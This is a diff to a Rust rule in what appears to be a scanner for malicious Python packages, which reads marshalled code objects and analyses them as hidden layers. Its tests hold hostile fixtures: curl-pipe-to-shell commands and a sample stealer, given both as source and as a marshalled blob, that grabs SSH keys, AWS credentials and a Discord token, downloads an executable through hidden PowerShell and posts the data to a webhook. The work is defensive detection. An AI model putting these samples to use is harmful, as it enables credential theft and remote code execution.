@@ -15,7 +15,8 @@ pub const RULE: Rule = Rule {
     description: "Decodes an embedded blob (base64, base32/85, hex, zlib, gzip, bz2, lzma, marshal), especially one that holds Python code",
     rationale: "Encoding hides the payload from readers and pattern scanners. Libraries decode data \
                 they receive, which weighs nothing; a literal that decodes to Python source or to a \
-                marshalled code object is a hidden program and is analysed as its own layer.",
+                marshalled code object is a hidden program and is analysed as its own layer (a \
+                code object is read, never run, and its bytecode rendered back to source).",
     category: Category::Anomaly,
 };
 
@@ -100,10 +101,26 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
         return;
     };
     if is_marshal {
+        let message = match checker.scopes.unmarshal(&input) {
+            Some(source) => {
+                let summary = code_summary(&source);
+                checker.push_layer(
+                    source,
+                    call.range(),
+                    "a code object read from marshal.loads (rendered from its bytecode, never run)"
+                        .to_owned(),
+                );
+                format!(
+                    "unmarshals an embedded {}-byte code object{summary} (analysed as a layer)",
+                    input.len()
+                )
+            }
+            None => format!("unmarshals an embedded {}-byte code object", input.len()),
+        };
         checker.report(
             &RULE,
             call.range(),
-            format!("unmarshals an embedded {}-byte code object", input.len()),
+            message,
             if context == ExecContext::TestOrDocs {
                 0.3
             } else {
@@ -145,6 +162,57 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
             vec!["decoded-blob"],
         );
     }
+}
+
+/// Names of what a rendered code object imports and calls, for the evidence message:
+/// ` that imports os, urllib.request and calls os.system, exec`.
+fn code_summary(source: &str) -> String {
+    let mut imports: Vec<&str> = Vec::new();
+    let mut calls: Vec<&str> = Vec::new();
+    for line in source.lines().take(20_000) {
+        for statement in line.split("; ") {
+            let statement = statement.trim_start();
+            if statement.starts_with("def ") || statement.starts_with("class ") {
+                continue;
+            }
+            if let Some(rest) = statement
+                .strip_prefix("import ")
+                .or_else(|| statement.strip_prefix("from "))
+            {
+                let module = rest.split([' ', ',']).next().unwrap_or("");
+                if !module.is_empty() && !imports.contains(&module) && imports.len() < 8 {
+                    imports.push(module);
+                }
+                continue;
+            }
+            let callee = statement
+                .split_once('(')
+                .map(|(head, _)| head.rsplit([' ', '=']).next().unwrap_or(head));
+            if let Some(callee) = callee.filter(|c| {
+                !c.is_empty()
+                    && c.chars()
+                        .all(|ch| ch.is_alphanumeric() || ch == '_' || ch == '.')
+            }) && !calls.contains(&callee)
+                && calls.len() < 8
+            {
+                calls.push(callee);
+            }
+        }
+    }
+    let mut out = String::new();
+    if !imports.is_empty() {
+        out.push_str(" that imports ");
+        out.push_str(&imports.join(", "));
+    }
+    if !calls.is_empty() {
+        out.push_str(if imports.is_empty() {
+            " that calls "
+        } else {
+            " and calls "
+        });
+        out.push_str(&calls.join(", "));
+    }
+    out
 }
 
 /// Long literals that decode to Python even when the decoding call is hidden.
@@ -201,6 +269,7 @@ pub fn check_string(checker: &mut Checker, value: &str, range: TextRange) {
 
 #[cfg(test)]
 mod tests {
+    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
     use super::*;
     use crate::rules::testing::{findings, max_severity};
 
@@ -226,6 +295,104 @@ mod tests {
     fn multi_step_wrappers_fold() {
         let code = "import base64, os\ndef b64d(s):\n    b = s.encode('ascii')\n    c = base64.b64decode(b)\n    return c.decode('ascii')\nos.system(b64d('Y3VybCBodHRwOi8veC5pbnZhbGlkL2EgfCBzaA=='))\n";
         assert!(max_severity("p/setup.py", code, "WH120") >= 0.9);
+    }
+
+    /// CPython 3.11 `marshal.dumps(compile('import os\nos.system("curl x|sh")', 'f', 'exec'))`.
+    const SYSTEM_CODE: &str = "630000000000000000000000000300000000000000f32e0000009700640064016c005a00020065006a0100000000000000006402a6010000ab0100000000000000000100640153002903e9000000004e7a096375726c20787c73682902da026f73da0673797374656da900f300000000da0166fa083c6d6f64756c653e7207000000010000007326000000f003010101d80009800980098009d8000980028409882bd10016d40016d00016d00016d000167205000000";
+    /// The same for `def add(a, b): return a + b` and `VERSION = "1.0"`.
+    const HARMLESS_CODE: &str = "630000000000000000000000000100000000000000f3100000009700640084005a0064015a01640253002903630200000000000000000000000200000003000000f30c00000097007c007c017a000000530029014ea9002902da0161da016273020000002020da016dda03616464720600000001000000730b0000008000d80b0c88718935804cf3000000007a03312e304e29027206000000da0756455253494f4e720200000072070000007205000000fa083c6d6f64756c653e720900000001000000731d000000f003010101f002010111f000010111f000010111e00a0f8007800780077207000000";
+
+    #[test]
+    fn marshalled_code_objects_are_read_and_analysed() {
+        let code = format!("import marshal\nexec(marshal.loads(bytes.fromhex('{SYSTEM_CODE}')))\n");
+        let all = findings("p/pkg/__init__.py", &code);
+        let layered = all
+            .iter()
+            .find(|f| f.path.contains("#layer") && f.rule == "WH120")
+            .expect("the code object's os.system call is analysed");
+        assert!(layered.severity >= 0.85, "{layered:?}");
+        assert_eq!(layered.line, 2);
+        assert!(
+            all.iter()
+                .any(|f| f.rule == "WH170" && f.message.contains("imports os and calls os.system")),
+            "{all:?}"
+        );
+        // Wrapped in a decoder lambda and compressed, as obfuscators write it.
+        let data = crate::decode::decode(Codec::Hex, SYSTEM_CODE.as_bytes()).unwrap();
+        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+        std::io::Write::write_all(&mut z, &data).unwrap();
+        let blob = crate::bytecode::bytes_literal(&z.finish().unwrap());
+        let code = format!(
+            "_ = lambda b: __import__('marshal').loads(__import__('zlib').decompress(b))\nexec(_({blob}))\n"
+        );
+        assert!(max_severity("p/pkg/__init__.py", &code, "WH120") >= 0.85);
+    }
+
+    /// CPython 3.11 `marshal.dumps(compile(SOURCE, 'snip', 'exec'))` of this stealer, written
+    /// for the test:
+    ///
+    /// ```text
+    /// import os, requests, base64, zlib
+    /// from pathlib import Path
+    /// _ = lambda s: zlib.decompress(base64.b64decode(s))
+    /// TOKEN = os.getenv("DISCORD_TOKEN")
+    /// def grab():
+    ///     found = []
+    ///     for p in [Path.home() / ".ssh" / "id_rsa", "~/.aws/credentials"]:
+    ///         try:
+    ///             with open(os.path.expanduser(str(p))) as f:
+    ///                 found.append(f.read())
+    ///         except Exception:
+    ///             pass
+    ///     return found
+    /// if os.name == "nt":
+    ///     os.system(f"powershell -w hidden -c iwr http://1.2.3.4/a.exe -o {os.getenv('TEMP')}\\a.exe")
+    /// data = {"t": TOKEN, "k": grab()}
+    /// requests.post("https://discord.com/api/webhooks/123/abc", json=data)
+    /// exec(_(b'eJwrKMrMK1HIL0pVyMnMS9dRyM/LBAA8uwaS'))
+    /// ```
+    const STEALER_CODE: &str = "630000000000000000000000000600000000000000f31e0100009700640064016c005a00640064016c015a01640064016c025a02640064016c035a03640064026c046d055a050100640384005a06020065006a0700000000000000006404a6010000ab0100000000000000005a08640584005a0965006a0a000000000000000064066b02000000007222020065006a0b00000000000000006407020065006a0700000000000000006408a6010000ab0100000000000000009b0064099d03a6010000ab0100000000000000000100650802006509a6000000ab000000000000000000640a9c025a0c020065016a0d0000000000000000640b650cac0ca6020000ab02000000000000000001000200650e02006506640da6010000ab010000000000000000a6010000ab010000000000000000010064015300290ee9000000004e2901da0450617468630100000000000000000000000500000003000000f34e00000097007401000000000000000000006a0100000000000000007405000000000000000000006a0300000000000000007c00a6010000ab010000000000000000a6010000ab010000000000000000530029014e2904da047a6c6962da0a6465636f6d7072657373da06626173653634da096236346465636f64652901da0173730100000020da04736e6970fa083c6c616d6264613e720a00000003000000731b00000080008d648c6f9d66d41e2ea871d11e31d41e31d10e32d40e328000f300000000da0d444953434f52445f544f4b454e630000000000000000000000000800000003000000f358010000970067007d007401000000000000000000006a010000000000000000a6000000ab00000000000000000064017a0b000064027a0b00006403660244005d8b7d0109007405000000000000000000007406000000000000000000006a040000000000000000a0050000000000000000000000000000000000000000740d000000000000000000007c01a6010000ab010000000000000000a6010000ab010000000000000000a6010000ab01000000000000000035007d027c00a00700000000000000000000000000000000000000007c02a0080000000000000000000000000000000000000000a6000000ab000000000000000000a6010000ab0100000000000000000100640064006400a6020000ab02000000000000000001006e0b230031007304770278035900770101005900010001008c7c230074120000000000000000000024007203010059008c8877007803590077017c00530029044e7a042e737368da0669645f7273617a127e2f2e6177732f63726564656e7469616c73290a7202000000da04686f6d65da046f70656eda026f73da0470617468da0a657870616e6475736572da03737472da06617070656e64da0472656164da09457863657074696f6e2903da05666f756e64da0170da016673030000002020207209000000da0467726162721b0000000500000073e70000008000d80c0e8045dd0e128c69896b8c6b9846d10e22a058d10e2dd02f43d00d44f000050511f0000505118801f002040911dd111595629467d71628d21628ad13a851a916ac16d11630d41630d11131d41131f000010d27b051d81015970c920c98519f569a5699589c58d11026d41026d01026f003010d27f000010d27f000010d27f100010d27f400010d27f000010d27f000010d27f000010d27f000010d27f000010d27f000010d27f8f8f8f000010d27f000010d27f000010d27f000010d27f8f8e50f18f000010911f000010911f000010911d80c108844f003010911f8f8f8e00b10804c7335000000a139421a02c11a28420e05c2020c421a02c20e04421209c21203421a02c21501421209c21603421a02c21a0a422705c22601422705da026e747a34706f7765727368656c6c202d772068696464656e202d632069777220687474703a2f2f312e322e332e342f612e657865202d6f20da0454454d507a065c612e6578652902da0174da016b7a2868747470733a2f2f646973636f72642e636f6d2f6170692f776562686f6f6b732f3132332f6162632901da046a736f6e7324000000654a77724b4d724d4b3148494c307056794d6e4d53396452794d2f4c4241413875776153290f7211000000da08726571756573747372060000007204000000da07706174686c69627202000000da015fda06676574656e76da05544f4b454e721b000000da046e616d65da0673797374656dda0464617461da04706f7374da0465786563a900720b0000007209000000fa083c6d6f64756c653e722c0000000100000073f2000000f003010101d80021d00021d00021d00021d00021d00021d00021d00021d00021d00021d00021d00021d00021d00021d00021d00021d80018d00018d00018d00018d00018d00018d80432d004328001d8081188028c09902fd10822d408228005f002080111f000080111f000080111f01200040684378864823f803fd8040d80428449d00e5fc059c052c459c876d14556d44556d00e5fd00e5fd00e5fd10460d40460d00460d80d129814981499169c16d00720d007208004d8000d8008840dd00e38b874d00044d10044d40044d00044d80004800480518051d0072ed1052fd4052fd10030d40030d00030d00030d00030720b000000";
+
+    #[test]
+    fn a_stealer_hidden_in_a_code_object_is_seen_whole() {
+        let code =
+            format!("import marshal\nexec(marshal.loads(bytes.fromhex('{STEALER_CODE}')))\n");
+        let all = findings("p/pkg/__init__.py", &code);
+        let in_layer = |rule: &str| {
+            all.iter()
+                .filter(|f| f.path.contains("#layer") && f.rule == rule)
+                .map(|f| f.severity)
+                .fold(0.0, f64::max)
+        };
+        assert!(in_layer("WH160") >= 0.5, "webhook: {all:#?}");
+        assert!(in_layer("WH140") > 0.0, "credential paths: {all:#?}");
+        assert!(
+            in_layer("WH120") >= 0.5,
+            "hidden powershell download: {all:#?}"
+        );
+        assert!(in_layer("WH130") > 0.0, "upload: {all:#?}");
+        assert!(in_layer("WH110") >= 0.5, "exec of decoded data: {all:#?}");
+    }
+
+    #[test]
+    fn harmless_or_computed_code_objects_weigh_little() {
+        let code =
+            format!("import marshal\nexec(marshal.loads(bytes.fromhex('{HARMLESS_CODE}')))\n");
+        let all = findings("p/pkg/__init__.py", &code);
+        assert!(
+            !all.iter()
+                .any(|f| f.path.contains("#layer") && matches!(f.rule, "WH120" | "WH130" | "WH140")),
+            "{all:?}"
+        );
+        let code = "import marshal\ndef load(path):\n    with open(path, 'rb') as f:\n        return marshal.loads(f.read()[16:])\n";
+        assert!(max_severity("p/pkg/cache.py", code, "WH170") < 0.05);
+        // Bytes that are no code object give no layer.
+        let code = "import marshal\nx = marshal.loads(b'\\xe3\\x00\\x01')\n";
+        assert!(
+            findings("p/pkg/m.py", code)
+                .iter()
+                .all(|f| !f.path.contains("#layer"))
+        );
     }
 
     #[test]
